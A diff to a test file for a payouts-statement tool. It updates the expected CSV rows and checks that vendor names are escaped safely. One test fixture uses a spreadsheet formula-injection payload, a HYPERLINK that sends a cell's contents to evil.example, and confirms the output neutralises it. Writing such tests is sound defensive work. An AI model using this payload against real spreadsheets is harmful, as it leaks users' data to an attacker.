@@ -143,7 +143,7 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     const dec = await payouts('--month', '2026-12', '--out', at('dec'), '--carry-in', at('nov/summary.json'));
     expect(dec.code, dec.stderr).toBe(0);
     // boardbrew: 1 x 0.40 + 0.80 carried in = 1.20, over the minimum: paid.
-    expect(readFileSync(at('dec/statements.csv'), 'utf8')).toContain('boardbrew,Boardbrew,2026-12,1,0,0,0,1,0.40,0.40,,false,0.80,1.00,1.20,0.00,USD');
+    expect(readFileSync(at('dec/statements.csv'), 'utf8')).toContain('boardbrew,Boardbrew,2026-12,1,0,0,0,0,0,0,1,0.40,0.40,,false,0.80,1.00,1.20,0.00,USD');
     const wrong = await payouts('--month', '2026-12', '--out', at('dec2'), '--carry-in', at('dec/summary.json'));
     expect(wrong.code).toBe(2);
     expect(wrong.stderr).toMatch(/is the summary of 2026-12; the carry-in for 2026-12 must be 2026-11's/);
@@ -201,7 +201,7 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     expect(run.code, run.stderr).toBe(0);
     const row = readFileSync(at('hostile/statements.csv'), 'utf8').split('\n').find((l) => l.startsWith('smallgoods,'))!;
     // Quoted per RFC 4180 and prefixed with an apostrophe: a spreadsheet shows it, never runs it.
-    expect(row).toBe(`smallgoods,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")",2026-11,1,0,0,0,1,0.50,0.50,,false,0.00,0.00,0.50,0.00,USD`);
+    expect(row).toBe(`smallgoods,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")",2026-11,1,0,0,0,0,0,0,1,0.50,0.50,,false,0.00,0.00,0.50,0.00,USD`);
     expect(readFileSync(at('hostile/statements/smallgoods.html'), 'utf8')).toContain('=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A2,&quot;x&quot;)');
 
     // The same vendor renamed with an ANSI clear-screen, a C1 CSI and a right-to-left override.
